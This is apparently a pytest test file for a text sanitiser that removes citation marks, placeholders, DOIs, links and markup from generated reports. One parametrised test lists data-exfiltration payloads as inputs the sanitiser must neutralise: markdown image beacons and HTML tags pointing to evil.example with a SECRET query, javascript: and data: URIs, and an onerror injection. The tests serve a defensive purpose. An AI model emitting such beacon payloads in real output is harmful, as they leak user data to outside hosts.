"""No address, link, image, tag or citation mark of a writer reaches the report."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from leadline.research.verify.markup import forbidden, plain


@pytest.mark.case("R09")
@pytest.mark.parametrize(
    "mark",
    [
        "[1]",
        "【1】",
        "［2］",
        "[1†L3]",
        "【12†source】",
        "[1, 2]",
        "[3-5]",
        "[^1]",
        "[cite: 12]",
        "[cite:3,4]",
        "[u1.e1]",
        "(u1.e2)",
        "[Source 3]",
        " (1)",
        " (12)",
        "[2:1]",
        "\ue200cite\ue202turn0search1\ue201",
        "\\cite{smith}",
        "{{cite web}}",
    ],
)
def test_citation_marks_in_any_brackets_are_refused_and_taken_out(mark: str) -> None:
    text = f"Sales rose{mark}."
    assert forbidden(text)
    assert plain(text) == "Sales rose."


@pytest.mark.case("R06")
@pytest.mark.parametrize(
    "mark", ["[1] Source title, URL", "[citation needed]", "[source]", "[URL]", "[Source title, URL]"]
)
def test_placeholders_are_refused(mark: str) -> None:
    assert forbidden(mark)
    assert "[" not in plain(mark)


def test_spaces_before_punctuation_stay_where_nothing_was_taken_out() -> None:
    assert plain("sans modèle : il dit « oui » ; non ?") == "sans modèle : il dit « oui » ; non ?"
    assert plain("Sales rose [3] , then fell [4] .") == "Sales rose, then fell."


@pytest.mark.case("R13")
def test_a_link_with_reasoning_in_it_becomes_its_words() -> None:
    text = "[let me check (https://a.example) ok](https://b.example/x)"
    assert forbidden(text)
    assert plain(text) == "let me check (a.example) ok"


@pytest.mark.case("P30")
@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/p?d=SECRET)",
        "![x][ref]",
        "[ref]: https://evil.example/p?d=SECRET",
        '<img src="https://evil.example/p?d=SECRET">',
        "<a href='https://evil.example/p?d=SECRET'>x</a>",
        "<https://evil.example/p?d=SECRET>",
        "see https://evil.example/p?d=SECRET now",
        "see www.evil.example/p?d=SECRET now",
        "javascript:alert(1)",
        "data:text/html;base64,SECRET",
        "![x](data:image/png;base64,SECRET)",
        "<img src=x onerror=SECRET",
    ],
)
def test_nothing_that_could_send_data_out_is_left(text: str) -> None:
    assert forbidden(text)
    left = plain(text)
    assert "SECRET" not in left and "://" not in left and "<" not in left and "![" not in left


@pytest.mark.case("R15")
@pytest.mark.parametrize(
    "text", ["doi:10.1145/nnnnnnn.nnnnnnn", "see 10.1145/3292500.3330701.", "https://doi.org/10.1000/182"]
)
def test_a_writer_gives_no_dois(text: str) -> None:
    assert forbidden(text)
    assert "10." not in plain(text)


@pytest.mark.parametrize(
    "text",
    [
        "Sales rose by 12 % (2023) to 3 million.",
        "(1) first, then (2) second.",
        "It said [sic] so and [the firm] agreed.",
        "The value lies between 1 < x and y > 2.",
        "At 10:30 the ratio was 3:1, see section 4.2.",
        "销售额增长（较去年）12%。【重要】",
        "A price of $5 and 50 % off; f(2) = 4.",
        "The data: 5 cases. The source is new.",
    ],
)
def test_ordinary_prose_is_left_alone(text: str) -> None:
    assert forbidden(text) == ()
    assert plain(text) == text


_PIECES = st.sampled_from(
    [
        "[1]",
        "[",
        "]",
        "(",
        ")",
        "!",
        "<",
        ">",
        "https://a.example/x",
        "www.b.example",
        "u1.e1",
        "word",
        " ",
        "[x](y)",
        "【1】",
        "10.1234/ab",
        "img",
        "<img ",
        "cite",
        ": ",
        "(1)",
        ".",
        "\n",
        "![",
        "](",
        "†",
        "data:a/b,",
        "javascript:",
        "http",
        "s://",
        "ww",
        "w.",
        "10.1",
        "234/",
    ]
)


@given(st.lists(_PIECES, max_size=14).map("".join) | st.text(max_size=60))
@settings(max_examples=600)
def test_a_cleaned_text_is_clean_and_stays_as_it_is(text: str) -> None:
    cleaned = plain(text)
    assert forbidden(cleaned) == ()
    assert plain(cleaned) == cleaned
